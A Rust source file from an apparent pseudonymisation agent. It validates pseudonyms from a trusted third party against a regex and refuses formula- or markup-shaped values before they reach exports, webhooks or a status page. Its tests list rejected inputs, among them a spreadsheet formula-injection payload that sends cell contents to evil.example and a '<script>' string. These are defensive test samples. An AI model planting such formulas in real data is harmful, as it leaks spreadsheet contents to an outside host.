//! What the agent accepts from the fTTP beyond the wire format: pseudonyms must match
//! `[ttp] pseudonym_pattern`. A pseudonym travels on into exports (spreadsheets), the
//! hand-over webhook and the status page; one shaped like `=HYPERLINK(...)` or `<script>` is
//! refused here, once, rather than escaped everywhere it might go. Pure.

use regex::Regex;
use sha2::Digest as _;
use ttp_proto::{PsnResponse, TaskKey, TaskKind, TaskList, TaskProblem};

/// Turns every `dic_psn_available` task whose pseudonym does not match `pattern` into a
/// problem (stored once, as needing attention; never acted on). The problem's index is the
/// task's position among the tasks read.
pub(crate) fn screen_tasks(list: &mut TaskList, pattern: &Regex) {
    let tasks = std::mem::take(&mut list.tasks);
    for (index, task) in tasks.into_iter().enumerate() {
        match &task.kind {
            TaskKind::DicPsnAvailable { pseudonym, .. } if !pattern.is_match(pseudonym) => {
                let digest = sha2::Sha256::digest(task.key().0.as_bytes());
                list.problems.push(TaskProblem {
                    index,
                    name: ttp_proto::task::DIC_PSN_AVAILABLE.to_owned(),
                    reason: format!(
                        "dic_psn_available task: the pseudonym ({} characters) does not match \
                         [ttp] pseudonym_pattern; it was not stored",
                        pseudonym.chars().count()
                    ),
                    key: TaskKey(format!(
                        "malformed/dic_psn_available/{}",
                        &hex::encode(digest)[..32]
                    )),
                });
            }
            _ => list.tasks.push(task),
        }
    }
}

/// Moves every `pseudonym-bf` entry whose pseudonym does not match `pattern` to the
/// response's problems: its filter then counts as not answered (it waits, and is asked
/// again after `[submit] recheck_after`), never as having that pseudonym.
pub(crate) fn screen_psn_response(response: &mut PsnResponse, pattern: &Regex) {
    let before = response.pseudonyms.len();
    response
        .pseudonyms
        .retain(|p| pattern.is_match(&p.pseudonym));
    let refused = before - response.pseudonyms.len();
    if refused > 0 {
        response.problems.push(format!(
            "{refused} `pseudonym-bf` entries carry a pseudonym that does not match \
             [ttp] pseudonym_pattern; they were not accepted"
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ttp_proto::Task;

    fn pattern() -> Regex {
        Regex::new(crate::config::DEFAULT_PSEUDONYM_PATTERN).unwrap()
    }

    fn dic(pseudonym: &str) -> Task {
        let kind = crate::testkit::dic_psn_available(pseudonym.as_bytes().to_vec(), pseudonym);
        crate::testkit::wire_task(kind, None)
    }

    #[test]
    fn the_default_pattern_takes_gpas_pseudonyms_and_refuses_formulas_and_markup() {
        let p = pattern();
        for ok in ["mii_6348Q7", "PSN-000123", "eye.2024.17", "urn:x:1", "0815"] {
            assert!(p.is_match(ok), "{ok}");
        }
        for bad in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"open\")",
            "+1",
            "-1",
            "@x",
            "<script>",
            "a b",
            "",
            "\tx",
            "ab\"c",
        ] {
            assert!(!p.is_match(bad), "{bad:?}");
        }
    }

    #[test]
    fn a_task_with_a_foreign_pseudonym_becomes_one_stable_problem() {
        let mut list = TaskList {
            tasks: vec![dic("mii_1"), dic("=1+1"), dic("mii_2")],
            ..TaskList::default()
        };
        screen_tasks(&mut list, &pattern());
        assert_eq!(list.tasks.len(), 2);
        assert_eq!(list.problems.len(), 1);
        let problem = &list.problems[0];
        assert_eq!(problem.index, 1);
        assert!(!problem.reason.contains("=1+1"), "{}", problem.reason);
        let mut again = TaskList {
            tasks: vec![dic("=1+1")],
            ..TaskList::default()
        };
        screen_tasks(&mut again, &pattern());
        assert_eq!(again.problems[0].key, problem.key);
    }
}
